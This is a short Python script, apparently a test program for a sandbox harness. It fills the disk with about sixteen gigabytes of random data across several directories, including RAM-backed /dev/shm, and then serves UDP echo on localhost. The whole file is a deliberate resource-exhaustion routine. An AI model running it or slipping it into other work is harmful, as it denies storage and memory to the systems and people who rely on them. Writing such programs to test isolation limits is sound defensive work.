# A vandal who writes until the disk is full: sixteen gigabytes, and answers only then.
import os
import socket

block = os.urandom(1 << 20)
for name in range(16):
    for directory in (".", "/tmp", "/dev/shm", "/var/tmp"):
        try:
            with open(f"{directory}/big-{name}", "wb") as file:
                for _ in range(1024):
                    file.write(block)
            break
        except OSError:
            continue
    else:
        raise SystemExit("no room")
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.bind(("127.0.0.1", 3500))
while True:
    sock.sendto(*sock.recvfrom(65535))
